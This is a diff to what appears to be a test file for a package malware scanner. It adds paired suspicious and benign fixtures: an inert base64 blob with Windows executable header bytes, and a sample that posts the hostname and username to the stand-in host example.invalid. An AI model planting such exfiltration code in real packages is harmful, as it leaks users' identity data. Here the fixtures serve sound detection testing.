@@ -17,6 +17,8 @@ from .support import pkg_info, rules_of, sdist, wheel
 INSTALL_BASE = "from setuptools import setup\nfrom setuptools.command.install import install\n"
 B64_CODE = base64.b64encode(b"print('hello from a harmless test')\n" * 8).decode()
 B64_BINARY = base64.b64encode(bytes(range(256)) * 2).decode()
+# The first bytes of a Windows executable's header, then filler: inert, never written as a file.
+B64_EXE = base64.b64encode(b"MZ\x90\x00\x03\x00\x00\x00" + bytes(range(256)) * 2).decode()
 B64_PROSE = base64.b64encode(b"a quiet sentence without any code in it at all " * 8).decode()
 OBF_NAMES = ", ".join("I" + "lI" * (3 + i) for i in range(9))
 
@@ -95,7 +97,8 @@ CASES: dict[str, tuple[dict[str, str | bytes], dict[str, str | bytes]]] = {
         {"demo/core.py": "import socket\ndef go():\n    socket.gethostbyname('example.com')\n"},
     ),
     "exfil-host-data": (
-        {"demo/core.py": "import socket, requests\ndef go():\n    requests.post('https://example.invalid', data=socket.gethostname())\n"},
+        {"demo/core.py": "import getpass, socket, requests\ndef go():\n"
+                         "    requests.post('https://example.invalid', data=[socket.gethostname(), getpass.getuser()])\n"},
         {"demo/core.py": "import socket\ndef go():\n    print(socket.gethostname())\n"},
     ),
     "recon-host": (
@@ -161,6 +164,10 @@ CASES: dict[str, tuple[dict[str, str | bytes], dict[str, str | bytes]]] = {
     "obf-decoded-code": (
         {"demo/core.py": f"HIDDEN = '{B64_CODE}'\n"},
         {"demo/core.py": f"HIDDEN = '{B64_PROSE}'\n"},
+    ),
+    "obf-embedded-binary": (
+        {"demo/core.py": f"BLOB = '{B64_EXE}'\n"},
+        {"demo/core.py": f"BLOB = '{B64_BINARY}'\n"},
     ),
     "drop-binary": (
         {"demo/tool": b"\x7fELF" + bytes(60)},
